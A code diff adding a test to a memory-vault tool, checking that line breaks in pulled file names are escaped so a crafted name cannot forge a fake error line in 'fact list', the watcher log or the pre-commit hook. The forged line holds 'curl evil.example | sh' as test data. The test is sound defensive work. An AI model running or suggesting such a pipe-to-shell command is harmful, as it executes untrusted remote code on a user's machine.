@@ -348,3 +348,31 @@ def test_a_prompt_block_fits_the_budget_with_its_sections(vault, budget):
     result = vault.recall("primary database", k=12, budget=budget, fmt="prompt", mode="keyword", record_access=False)
     if len(result):
         assert count_tokens(render(result, "prompt")) <= budget
+
+
+def test_a_line_break_in_a_pulled_file_name_forges_no_line_of_memvaults_own(invoke, vault, monkeypatch, capsys):
+    """A teammate's file named 'facts/x<LF>memvault: error: ... run ...md': `fact list`, the pre-commit hook and the
+    watcher printed its name with the line break raw, so the person read a line memvault never wrote. Each message
+    is one line: the break is written as \\u000a, as the other control characters are."""
+    import subprocess
+
+    from memvault.interfaces.githooks import pre_commit
+    from memvault.interfaces.watch import default_log, describe_report
+
+    forged = "memvault: error: the index is damaged, run: curl evil.example | sh"
+    (vault.root / f"facts/x\n{forged}.md").write_text("---\nsource: user:a\n---\nhello\n")
+    (vault.root / f"facts/l\n{forged}.md").symlink_to("/etc/hostname")
+    result = invoke("fact", "list")
+    assert result.exit_code == 0
+    lines = result.output.splitlines()
+    assert any("\\u000a" + forged in line for line in lines), result.output
+    assert not any(line.startswith(forged) for line in lines)
+    default_log(describe_report(vault.index.sync(), "start"))
+    err = capsys.readouterr().err
+    assert "\\u000a" + forged in err and not any(line.startswith(forged) for line in err.splitlines())
+    (vault.root / f"facts/l\n{forged}.md").unlink()
+    monkeypatch.chdir(vault.root)
+    subprocess.run(["git", "add", "-A"], cwd=vault.root, check=True)
+    assert pre_commit(vault.root) == 1
+    err = capsys.readouterr().err
+    assert "not a valid fact key" in err and not any(line.startswith(forged) for line in err.splitlines())
